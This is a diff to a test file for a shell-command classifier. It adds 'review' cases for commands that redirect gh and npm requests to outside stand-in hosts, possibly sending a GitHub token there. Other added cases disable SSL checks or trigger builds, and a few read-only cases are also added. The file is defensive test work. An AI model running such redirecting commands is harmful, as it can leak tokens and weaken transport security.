@@ -1181,7 +1181,19 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["KUBERC=./prefs.yaml kubectl get pods", "review"], // review53: gh api uses an endpoint with `://` as the whole URL, on any host (and sends
   // GH_ENTERPRISE_TOKEN to a host that is not github.com), as -R HOST/OWNER/REPO does.
   ["gh api https://collector.example.test/x", "review"],
-  ["gh api --paginate http://203.0.113.7/repos", "review"],
+  ["gh api --paginate http://203.0.113.7/repos", "review"], // review53: go list -export and -compiled run a build (the compiler, cgo and the C compiler;
+  // cmd/go's list sets NeedExport / NeedCompiledGoFiles); deno doc --html writes a site (to
+  // ./docs/ by default); npm's --registry, --proxy and certificate options point its registry
+  // requests elsewhere, as pip's --index-url, --proxy and --cert do.
+  ["go list -export ./...", "review"],
+  ["go list -compiled -json ./...", "review"],
+  ["go list --export=true -f '{{.Export}}' ./...", "review"],
+  ["deno doc --html mod.ts", "review"],
+  ["deno doc --html --output=site mod.ts", "review"],
+  ["npm view left-pad --registry=http://203.0.113.9/", "review"],
+  ["npm search --registry http://203.0.113.9/ x", "review"],
+  ["npm view lodash --https-proxy=http://203.0.113.5:3128", "review"],
+  ["npm outdated --strict-ssl=false", "review"],
 ];
 
 /** Commands that look like dangerous ones but are read-only or only need review. */
@@ -2293,5 +2305,9 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["kubectl get pods --profile=none", "read_only"],
   ["kubectl get pods --request_timeout=5s", "read_only"], // gh api paths on the configured host, and a jq filter that merely names a URL.
   ["gh api repos/cli/cli/releases --jq '.[].html_url'", "read_only"],
-  ["gh api /user", "read_only"],
+  ["gh api /user", "read_only"], // go list reading only, -export turned off, deno doc as text, npm view on its registry.
+  ["go list -deps -f '{{.ImportPath}}' ./...", "read_only"],
+  ["go list -export=false ./...", "read_only"],
+  ["deno doc mod.ts", "read_only"],
+  ["npm view left-pad versions --json", "read_only"],
 ];
